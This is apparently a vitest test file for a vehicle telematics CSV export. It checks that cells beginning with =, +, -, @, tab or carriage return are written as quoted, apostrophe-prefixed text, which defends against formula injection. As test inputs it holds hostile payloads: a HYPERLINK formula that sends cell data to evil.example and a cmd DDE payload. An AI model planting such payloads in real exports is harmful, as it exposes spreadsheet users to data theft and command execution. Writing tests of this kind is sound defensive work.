/**
 * Adversarial review: the insurer opens the pay-as-you-drive CSV in a spreadsheet. Every cell comes from the chain
 * (figures, hashes, a record kind from a fixed list), but the export must stay inert whatever a cell holds: a cell
 * that starts with = + - @ (or a tab or carriage return) is a formula to Excel, LibreOffice and Google Sheets
 * (CSV/formula injection, OWASP). Such a cell is written as text: a leading apostrophe, quoted.
 */
import { describe, expect, it } from 'vitest';
import { mileageSeriesCsv, type MileageSeries } from './telematics';

function seriesWithKind(kind: string): MileageSeries {
  return {
    tokenId: 1n,
    from: 0,
    to: 2_000_000_000,
    atBlock: 10n,
    chain: { ok: true },
    points: [
      {
        source: 'record',
        kind,
        mileage: 48_200,
        time: 1_767_225_600,
        blockNumber: 9n,
        transactionHash: `0x${'ab'.repeat(32)}`,
      },
    ],
  };
}

describe('pay-as-you-drive CSV', () => {
  it('writes a cell that a spreadsheet would run as a formula as inert text', () => {
    for (const hostile of [
      '=HYPERLINK("http://evil.example/?x="&A1,"km")',
      '+1+cmd|/C calc!A0',
      '-2+3',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
    ]) {
      const [, row] = mileageSeriesCsv(seriesWithKind(hostile)).split('\r\n');
      const cells = row.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((cell) => cell.replace(/,$/, ''));
      const kind = cells[3];
      expect(kind.startsWith(`"'`), `${JSON.stringify(hostile)} written as ${kind}`).toBe(true);
    }
  });

  it('leaves ordinary cells as they were', () => {
    expect(mileageSeriesCsv(seriesWithKind('Service')).split('\r\n')[1]).toBe(
      `2026-01-01T00:00:00.000Z,1767225600,record,Service,48200,9,0x${'ab'.repeat(32)}`,
    );
  });
});
